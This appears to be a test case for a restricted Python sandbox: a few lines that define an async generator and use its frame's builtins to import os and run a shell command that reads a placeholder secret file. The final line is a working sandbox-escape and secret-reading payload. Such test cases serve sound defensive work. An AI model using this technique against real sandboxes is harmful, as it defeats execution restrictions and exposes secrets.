# An asynchronous generator's frame.
# effect: run
async def work():
    yield 1
work().ag_frame.f_builtins["__import__"]("os").system("cat @SECRET@")
